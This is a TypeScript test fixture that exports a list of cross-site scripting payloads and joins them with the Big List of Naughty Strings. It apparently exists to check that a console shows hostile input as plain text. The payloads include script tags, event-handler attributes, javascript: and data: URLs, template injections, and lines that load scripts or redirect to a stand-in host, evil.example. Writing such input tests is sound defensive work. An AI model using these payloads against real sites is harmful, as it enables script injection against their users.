import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from '../../test/architecture/files.ts';

/** Texts that open an alert or send a request to another host if the console does not treat them as plain text. */
export const scriptTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '"><img src=x onerror=alert(1)>',
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover=alert(1) x='",
  '" style="animation-name:x" onanimationstart=alert(1) x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus></select>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](x" onerror="alert(1))',
  '<form action="javascript:alert(1)"><button>send</button></form>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];

const collected = readFileSync(join(root, 'packages/adapters-markdown/test/fixtures/naughty-strings.json'), 'utf8');

const naughtyStrings: readonly string[] = JSON.parse(collected);

/** The Big List of Naughty Strings (see `ORIGIN.md` next to `naughty-strings.json`), and the texts of `scriptTexts`. */
export const hostileTexts: readonly string[] = [...naughtyStrings, ...scriptTexts];

const groupSize = 100;

/**
 * The texts of `hostileTexts`, joined into a few values, because entering a value into every field of a screen is slow.
 * The texts of `scriptTexts` are also separate values.
 */
export const fewHostileTexts: readonly string[] = [
  ...Array.from({ length: Math.ceil(hostileTexts.length / groupSize) }, (_, group) =>
    hostileTexts.slice(group * groupSize, (group + 1) * groupSize).join(' '),
  ),
  ...scriptTexts,
];
